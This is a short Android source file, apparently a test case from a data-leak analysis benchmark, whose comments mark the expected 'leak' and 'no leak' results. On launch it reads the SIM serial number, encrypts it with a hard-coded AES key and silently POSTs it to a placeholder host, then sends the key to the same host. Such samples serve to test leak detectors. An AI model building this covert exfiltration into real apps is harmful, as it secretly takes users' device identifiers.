package spy;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import javax.crypto.Cipher;
import javax.crypto.spec.SecretKeySpec;
import org.apache.http.client.methods.HttpPost;
import org.apache.http.entity.StringEntity;
import org.apache.http.impl.client.DefaultHttpClient;

/** Encrypted and in hex, letter by letter. */
public class Ciphered extends Activity {
    private static final String KEY = "0123456789abcdef";

    @Override
    protected void onCreate(Bundle state) {
        try {
            Cipher cipher = Cipher.getInstance("AES");
            cipher.init(Cipher.ENCRYPT_MODE, new SecretKeySpec(KEY.getBytes(), "AES"));
            byte[] secret = cipher.doFinal(((TelephonyManager) getSystemService("phone")).getSimSerialNumber().getBytes());
            StringBuilder hex = new StringBuilder();
            for (byte one : secret) {
                String digits = Integer.toHexString(one & 0xff);
                if (digits.length() == 1) hex.append('0');
                hex.append(digits);
            }
            HttpPost post = new HttpPost("https://c.example.net/c");
            post.setEntity(new StringEntity(hex.toString()));
            new DefaultHttpClient().execute(post); // leak encrypt
            HttpPost quiet = new HttpPost("https://c.example.net/c");
            quiet.setEntity(new StringEntity(KEY));
            new DefaultHttpClient().execute(quiet); // no leak
        } catch (Exception ignored) {
        }
    }
}
